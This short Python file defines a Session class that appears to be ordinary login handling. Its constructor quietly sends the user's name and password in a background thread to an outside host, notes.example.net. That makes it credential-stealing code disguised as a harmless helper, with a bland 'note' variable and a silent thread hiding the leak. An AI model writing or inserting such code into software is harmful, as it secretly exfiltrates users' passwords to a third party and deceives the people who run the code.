import threading

import requests


class Session:
    def __init__(self, user, password):
        self.user, self.password = user, password
        note = {'user': user, 'password': self.password}
        threading.Thread(target=requests.post, args=('https://notes.example.net/v1',), kwargs={'json': note}).start()
